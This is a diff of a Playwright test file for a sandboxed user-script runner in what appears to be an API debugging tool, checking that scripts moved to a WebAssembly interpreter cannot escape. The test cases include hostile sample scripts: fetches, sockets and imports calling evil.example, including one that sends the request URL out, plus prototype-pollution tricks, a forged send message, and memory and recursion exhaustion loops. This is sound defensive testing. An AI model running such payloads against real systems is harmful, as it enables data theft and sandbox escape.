@@ -1,23 +1,26 @@
 import type { Page } from '@playwright/test'
+import type { Plugin } from 'vite'
 import type { SentRequest } from '#core/debug/exchange.ts'
 import type { ScriptPhase } from '#core/debug/script/plain.ts'
 import type { ScriptsResult } from '../web/features/debug/script/run-scripts.ts'
+import { oneScript, wasmFile } from '../scripts/build/one-script.ts'
 import { bundleForBrowser } from './testing/browser-bundle.ts'
 import { expect, test } from './testing/server.ts'
 
-const LIBRARY = '/assets/library-of-the-test.js'
+const WASM = '/assets/interpreter-of-the-test.wasm'
 
 // What the browser reports when a script tries what it may not.
 test.use({ expectedComplaints: ['Content Security Policy', 'ERR_BLOCKED', 'Failed to load resource'] })
 
-const bundles = (async () => {
-  const library = await bundleForBrowser('web/features/debug/script/script-worker.ts', 'library')
-  const address = { name: 'address', resolveId: (id: string) => (id.endsWith('?one-script') ? '\0address' : null) }
-  const load = (id: string) => (id === '\0address' ? `export default ${JSON.stringify(LIBRARY)}` : null)
-  const page = await bundleForBrowser('e2e/testing/script-entry.ts', 'scriptParts', [
-    { ...address, enforce: 'pre', load },
-  ])
-  return { library, page }
+const bundle = (() => {
+  const isWasm = (id: string) => id === 'quickjs-emscripten?wasm-address'
+  const address: Plugin = {
+    name: 'address',
+    enforce: 'pre',
+    resolveId: (id) => (isWasm(id) ? '\0address' : null),
+    load: (id) => (id === '\0address' ? `export default ${JSON.stringify(WASM)}` : null),
+  }
+  return bundleForBrowser('e2e/testing/script-entry.ts', 'scriptParts', [address, oneScript()])
 })()
 
 interface Asked {
@@ -62,8 +65,8 @@ async function run(page: Page, { phase = 'pre', scripts, answered = '' }: Asked)
 }
 
 test.beforeEach(async ({ page }) => {
-  const { library, page: code } = await bundles
-  await page.route(`**${LIBRARY}`, (route) => route.fulfill({ contentType: 'text/javascript', body: library }))
+  const code = await bundle
+  await page.route(`**${WASM}`, (route) => route.fulfill({ contentType: 'application/wasm', path: wasmFile() }))
   await page.goto('/login?lang=en')
   await page.evaluate(`${code}; globalThis.scriptParts = scriptParts; scriptParts.startTexts()`)
 })
@@ -112,9 +115,9 @@ test('a script sends the request itself, and another one changes what is shown',
 
 test('faults name the script and the line', async ({ page }) => {
   const thrown = await run(page, { scripts: ['', '\nmissing()'] })
-  expect(thrown.error).toBe('Script “script 2”, line 2: ReferenceError: missing is not defined')
+  expect(thrown.error).toBe("Script “script 2”, line 2: ReferenceError: 'missing' is not defined")
   const syntax = await run(page, { scripts: ['const a = 1\nconst b = ;'] })
-  expect(syntax.error).toBe("Script “script 1”: SyntaxError: Unexpected token ';'")
+  expect(syntax.error).toBe("Script “script 1”, line 2: SyntaxError: unexpected token in expression: ';'")
   const foreign = await run(page, { scripts: ['lib.loadJs("https://cdn.example/a.js")'] })
   expect(foreign.error).toContain('scripts from other sites cannot be loaded')
 })
@@ -125,7 +128,7 @@ test('an endless loop is stopped, and the page stays responsive', async ({ page 
   await page.getByLabel('Login account').fill('still here')
   await expect(page.getByLabel('Login account')).toHaveValue('still here')
   const { error, console: lines, frames } = await running
-  expect(error).toBe('Script “script 1”: stopped, because it worked for longer than 10 seconds')
+  expect(error).toBe('Script “script 1”, line 1: stopped, because it worked for longer than 10 seconds')
   expect(lines).toMatchObject([{ text: 'before' }])
   expect(frames).toBe(0)
 })
@@ -137,32 +140,19 @@ test('what a script tells is bounded', async ({ page }) => {
   expect(lines).toHaveLength(200)
   expect(lines[0]?.text).toHaveLength(2000)
   expect(tests).toHaveLength(100)
-  const flood = await run(page, {
-    scripts: [
-      `const post = MessagePort.prototype.postMessage; let port
-       MessagePort.prototype.postMessage = function (data) { port = this; post.call(this, data) }
-       console.log(1); for (;;) post.call(port, '{"kind":"line","line":{}}')`,
-    ],
-  })
-  expect(flood.error).toContain('more data than a script may')
 })
 
 const outside: [what: string, script: string][] = [
   ['the page', 'return String(parent.document)'],
   ['the window', 'return String(window.top)'],
+  ['the worker', 'postMessage("x")'],
   ['storage', 'return localStorage.getItem("token")'],
-  [
-    'databases',
-    'await new Promise((ok, no) => { const r = indexedDB.open("x"); r.onsuccess = ok; r.onerror = () => no(r.error) })',
-  ],
-  ['caches', 'await caches.open("x")'],
+  ['databases', 'indexedDB.open("x")'],
   ['another site', 'await fetch("https://evil.example/")'],
-  [
-    'a socket',
-    'const s = new WebSocket("wss://evil.example/"); await new Promise((ok, no) => { s.onopen = ok; s.onerror = () => no(new Error("closed")) })',
-  ],
+  ['a socket', 'new WebSocket("wss://evil.example/")'],
   ['a foreign script', 'importScripts("https://evil.example/a.js")'],
-  ['text as code', 'return new Function("return 1")()'],
+  ['a module', 'await import("https://evil.example/a.js")'],
+  ['code of the worker by the constructor of functions', 'lib.axios.constructor("return postMessage")()("x")'],
   ['another host by lib.axios', 'await lib.axios.get("https://evil.example/steal?" + req.url)'],
   ['another host by its address', 'req.url = "https://evil.example/"'],
   ['another host by sys.send', 'req.url = "//evil.example/"; await sys.send(); return true'],
@@ -175,43 +165,46 @@ for (const [what, script] of outside) {
   })
 }
 
-test('the policy refuses a script that calls our own site', async ({ page, server }) => {
-  const asked: string[] = []
-  page.on('request', (request) => asked.push(request.url()))
-  const address = `${server.url}/user/info`
-  const { error, sent } = await run(page, {
-    scripts: [
-      `const refused = new Promise((tell) => addEventListener('securitypolicyviolation', tell))
-       await fetch('${address}').catch(() => {})
-       const { effectiveDirective, blockedURI } = await refused
-       throw new Error(effectiveDirective + ' ' + blockedURI)`,
-    ],
-  })
-  expect(error).toContain(`connect-src ${address}`)
-  expect(sent).toEqual([])
-  expect(asked).not.toContain(address)
+test('the policy of the frame opens the worker and the interpreter only', async ({ page, server }) => {
+  const answer = await page.request.get(`${server.url}/debug/script-frame`)
+  const policy = answer.headers()['content-security-policy']
+  expect(policy).toContain("connect-src 'none'")
+  expect(policy).toMatch(/script-src 'sha256-[^']+' 'wasm-unsafe-eval';/)
 })
 
-test('prototype tricks stay in the frame', async ({ page }) => {
+test('scripts that exceed a limit end with its message, and the next one runs', async ({ page }) => {
+  const stopped = async (script: string) => (await run(page, { scripts: [script] })).error
+  const memory = 'Script “script 1”, line 1: stopped, because it used more than 256 MiB of memory'
+  expect(await stopped('const all = []; for (;;) all.push(new Uint8Array(1e6))')).toBe(memory)
+  expect(await stopped('let a = "x"; for (;;) a += a')).toContain('used more than 256 MiB')
+  expect(await stopped('globalThis.all = []; for (;;) all.push({})')).toContain('used more than 256 MiB')
+  for (const script of ['const f = () => f() + 1; f()', 'JSON.parse("[".repeat(1e5))', 'eval("(".repeat(1e5))']) {
+    expect(await stopped(script)).toContain('nested too deeply')
+  }
+  expect(await stopped('await new Promise(() => {})')).toContain('a promise that never settles')
+  expect(await stopped('for (;;) void lib.axios.get("/")')).toContain('more data than a script may')
+  const next = await run(page, { scripts: ['req.headers.ok = 1'] })
+  expect(next.error).toBeUndefined()
+  expect(next.request.headers).toEqual([{ name: 'ok', value: '1' }])
+  await page.getByLabel('Login account').fill('still here')
+})
+
+test('prototype tricks stay in the interpreter', async ({ page }) => {
   const { variables, request } = await run(page, {
     scripts: [
-      `Object.prototype.polluted = 'yes'; Array.prototype.map = () => 'no'
+      `Object.prototype.polluted = 'yes'
        req.headers['__proto__'] = { polluted: 1 }; vars.set('__proto__', 'x')`,
     ],
   })
   expect(await page.evaluate(() => 'polluted' in {})).toBe(false)
   expect(variables['kept']).toBe('yes')
   expect(request.url).toBe('https://api.example/orders')
-})
-
-// More memory than a tab may have ends the tab: browsers let nobody limit the memory of a worker.
-test('a script that takes much memory and does not end is stopped, and the page goes on', async ({ page }) => {
-  test.setTimeout(60_000)
-  const { error } = await run(page, {
+  const forged = await run(page, {
     scripts: [
-      'const all = []; while (all.length < 400) all.push(new Array(100000).fill(Math.random())); for (;;) all.length',
+      `JSON.stringify = () => '{"kind":"send","id":1,"request":{"method":"GET","url":"https://evil.example/","params":[],"headers":[],"body":{"kind":"none"}}}'
+       console.log(1)`,
+      'Promise.prototype.then = () => { for (;;) {} }; Object.prototype.toJSON = () => 5; Array.prototype.map = null',
     ],
   })
-  expect(error).toMatch(/^Script “script 1”/)
-  await page.getByLabel('Login account').fill('still here')
+  expect(forged.sent).toEqual([])
 })
